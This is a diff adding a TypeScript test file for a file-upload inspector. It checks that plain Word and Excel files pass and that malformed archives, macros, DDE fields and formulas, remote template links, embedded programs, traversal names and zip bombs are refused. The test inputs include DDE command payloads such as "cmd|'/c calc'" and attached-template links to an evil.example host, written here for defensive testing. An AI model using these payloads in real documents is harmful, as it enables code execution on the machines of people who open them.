@@ -1,0 +1,214 @@
+import { describe, expect, it } from 'vitest';
+import { buildZip } from '../../testing/buildZip.ts';
+import { buildOffice, officeParts } from '../../testing/office/buildOffice.ts';
+import {
+  areFine,
+  areRefused,
+  kb,
+  mb,
+  noise,
+  picture,
+  webPage,
+  windowsProgram,
+} from '../../testing/office/judgeFiles.ts';
+import { inspectFile } from './inspectFile.ts';
+
+describe('documents and workbooks', () => {
+  const numbered = officeParts('docx').map(({ name, data }) => ({
+    name: name.replace('document.xml', 'document2.xml'),
+    data,
+  }));
+  areFine([
+    ['a document', 'CV.Docx', buildOffice('docx')],
+    ['a workbook', 'a.xlsx', buildOffice('xlsx')],
+    ['a main part with a number', 'a.docx', buildZip(numbered)],
+    ['a comment', 'a.docx', buildZip(officeParts('docx'), 'written by hand')],
+    ['parts as they are', 'a.xlsx', buildOffice('xlsx', [{ name: 'a.png', data: picture, method: 0 }])],
+    ['a large picture', 'a.docx', buildOffice('docx', [{ name: 'a.bin', data: noise(300 * kb) }])],
+    ['repeated text', 'a.xlsx', buildOffice('xlsx', [{ name: 'a.xml', data: rows(4 * mb) }])],
+  ]);
+  const whole = buildOffice('docx', [{ name: 'a.xml', data: rows(20 * kb) }]);
+  const damaged = Buffer.from(whole);
+  damaged.fill(0xff, 60, 90);
+  areRefused([
+    ['a workbook as document', 'a.docx', buildOffice('xlsx')],
+    ['a document as workbook', 'a.xlsx', buildOffice('docx')],
+    ['an archive of something else', 'a.docx', buildZip([{ name: 'a.txt', data: 'b' }])],
+    ['an empty archive', 'a.docx', buildZip([])],
+    ['a document without types', 'a.docx', buildZip(officeParts('docx').slice(1))],
+    ['one of a web page', 'a.docx', webPage],
+    ['one cut short', 'a.docx', whole.subarray(0, -30)],
+    ['one with more behind it', 'a.docx', Buffer.concat([whole, webPage])],
+    ['one with more before it', 'a.docx', Buffer.concat([webPage, whole])],
+    [
+      'one that knows of more before it',
+      'a.docx',
+      Buffer.concat([webPage, buildZip(officeParts('docx'), '', webPage.length)]),
+    ],
+    ['a damaged one', 'a.docx', damaged],
+    ['a locked part', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', flags: 1 }])],
+    ['a part packed otherwise', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', method: 12 }])],
+    ['a name twice', 'a.docx', buildOffice('docx', [{ name: 'Word/Document.xml', data: 'b' }])],
+    ['a name that leads outside', 'a.docx', buildOffice('docx', [{ name: '../a', data: 'b' }])],
+    [
+      'another name before the data',
+      'a.docx',
+      buildOffice('docx', [{ name: 'a', data: 'b', localName: 'c' }]),
+    ],
+    ['another size before the data', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', localSize: 9 }])],
+    ['a size too small', 'a.docx', buildOffice('docx', [{ name: 'a', data: rows(mb), size: 10 }])],
+    ['a size too large', 'a.docx', buildOffice('docx', [{ name: 'a', data: 'b', size: 10 }])],
+    ['too many parts', 'a.docx', buildOffice('docx', many(3000))],
+  ]);
+
+  const rel = (attributes: string) =>
+    buildOffice('docx', [
+      {
+        name: 'word/_rels/document.xml.rels',
+        data: `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`,
+      },
+    ]);
+  const part = (data: Buffer | string) => buildOffice('docx', [{ name: 'word/a.xml', data }]);
+  const cell = (formula: string) =>
+    buildOffice('xlsx', [{ name: 'xl/s.xml', data: `<c><f>${formula}</f></c>` }]);
+  const field = (...pieces: string[]) => part(`<w:p>${pieces.join('')}</w:p>`);
+  const [begin, separate, end] = ['begin', 'separate', 'end'].map(
+    (type) => `<w:fldChar w:fldCharType="${type}"/>`,
+  ) as [string, string, string];
+  const said = (words: string) => `<w:instrText>${words}</w:instrText>`;
+  const chart = (workbook: Buffer) =>
+    buildOffice('docx', [{ name: 'word/embeddings/a.xlsx', data: workbook }]);
+  areFine([
+    ['the data of a chart', 'a.docx', chart(buildOffice('xlsx'))],
+    ['a link', 'a.docx', rel('Type="x/hyperlink" TargetMode="External" Target="https://example.com"')],
+    [
+      'the template of its author',
+      'a.docx',
+      rel('Type="x/attachedTemplate" TargetMode="External" Target="file:///C:\\Users\\a\\CV.dotx"'),
+    ],
+    [
+      'fields',
+      'a.docx',
+      field(begin, said(' HYPERLINK "https://dde.example"'), separate, begin, said('PAGE'), end, end),
+    ],
+    ['formulas', 'a.xlsx', cell('SUM(A1:A3)&amp;"cmd|x"&amp;\'a|b\'!A1')],
+    ['words about macros', 'a.docx', part('<w:t>vbaProject macroEnabled DDEAUTO</w:t>')],
+  ]);
+  areRefused(
+    [
+      ['macros', 'a.docx', buildOffice('docx', [{ name: 'word/vbaProject.bin', data: 'x' }])],
+      ['macros by another name', 'a.docx', withTypes('application/vnd.ms-office.vbaProject')],
+      [
+        'a document for macros',
+        'a.docx',
+        withTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
+      ],
+      [
+        'macros written with an entity',
+        'a.docx',
+        withTypes('application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
+      ],
+      [
+        'macros by their relationship',
+        'a.docx',
+        rel('Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="x.bin"'),
+      ],
+      [
+        'a template of elsewhere',
+        'a.docx',
+        rel('Type="x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"'),
+      ],
+      [
+        'a template of a share',
+        'a.docx',
+        rel('Type="x/attachedTemplate" TargetMode="External" Target="file://evil/t.dotm"'),
+      ],
+      [
+        'a frame of elsewhere',
+        'a.docx',
+        rel('Type="x/frame" TargetMode="External" Target="https://evil.example"'),
+      ],
+      ['another document within', 'a.docx', rel('Type="x/aFChunk" Target="x.rtf"')],
+      ['an object', 'a.docx', rel('Type="x/oleObject" Target="x.bin"')],
+      ['a field of DDE', 'a.docx', field(begin, said('DD'), said('EAUTO c:\\cmd.exe'), separate, end)],
+      ['a simple field of DDE', 'a.docx', part('<w:fldSimple w:instr=" DDE excel"/>')],
+      [
+        'a field of DDE that others write',
+        'a.docx',
+        field(begin, begin, said('QUOTE 68 68 69'), separate, end, separate, end),
+      ],
+      ['a formula of DDE', 'a.xlsx', cell("cmd|'/c calc'!A0")],
+      [
+        'a link of DDE',
+        'a.xlsx',
+        buildOffice('xlsx', [{ name: 'xl/e.xml', data: '<x:ddeLink ddeService="cmd"/>' }]),
+      ],
+      ['a program', 'a.docx', buildOffice('docx', [{ name: 'word/media/image1.png', data: windowsProgram }])],
+      [
+        'a compound file',
+        'a.docx',
+        buildOffice('docx', [{ name: 'word/a.bin', data: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
+      ],
+      [
+        'an archive',
+        'a.docx',
+        buildOffice('docx', [{ name: 'word/a.bin', data: buildZip([{ name: 'a', data: 'b' }]) }]),
+      ],
+      [
+        'macros in the data of a chart',
+        'a.docx',
+        chart(buildOffice('xlsx', [{ name: 'xl/vbaProject.bin', data: 'x' }])),
+      ],
+      ['a part in UTF-16', 'a.docx', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE"/>', 'utf16le'))],
+      ['a part with entities of its own', 'a.docx', part('<!DOCTYPE a [<!ENTITY d "DDE">]><a/>')],
+      ['a part in an unusual encoding', 'a.docx', part('<?xml version="1.0" encoding="UTF-7"?><a/>')],
+    ],
+    'activeContent',
+  );
+
+  function withTypes(type: string): Buffer {
+    const [types, ...rest] = officeParts('docx');
+    return buildZip([
+      { name: types?.name ?? '', data: `${types?.data}<Override ContentType="${type}"/>` },
+      ...rest,
+    ]);
+  }
+});
+
+describe('archives that burst', () => {
+  const zeros = { name: 'zeros.xml', data: Buffer.alloc(120 * mb) };
+  const inner = { name: 'inner', data: noise(1000) };
+  const packed = buildZip([inner]);
+  const outer = {
+    name: 'outer',
+    data: packed.subarray(0, packed.indexOf('PK\x01\x02', 'latin1')),
+    method: 0,
+  };
+  const at = buildOffice('docx').indexOf('PK\x01\x02', 'latin1') + 30 + outer.name.length;
+  const [types, ...rest] = officeParts('docx');
+  const bombs: Record<string, Buffer> = {
+    'by one part': buildOffice('docx', [zeros]),
+    'by one part that hides its size': buildOffice('docx', [{ ...zeros, size: 1000 }]),
+    'by types that hide their size': buildZip([{ ...zeros, name: types?.name ?? '', size: 1000 }, ...rest]),
+    'by parts that share their bytes': buildOffice('docx', [outer, { ...inner, at }]),
+  };
+  it.each(Object.entries(bombs))('%s: in no time and little memory', async (_, bytes) => {
+    const before = process.memoryUsage.rss();
+    const started = performance.now();
+    expect(await inspectFile('a.docx', bytes)).toBe('fileType');
+    expect(performance.now() - started).toBeLessThan(2000);
+    expect(process.memoryUsage.rss() - before).toBeLessThan(64 * mb);
+  });
+});
+
+/** Rows of a sheet that differ by their number alone. */
+function rows(size: number): string {
+  let text = '';
+  for (let row = 1; text.length < size; row++)
+    text += `<row r="${row}"><c r="A${row}"><v>${row * 7}</v></c></row>`;
+  return text;
+}
+
+function many(count: number) {
+  return Array.from({ length: count }, (_, index) => ({ name: `part${index}`, data: 'x' }));
+}
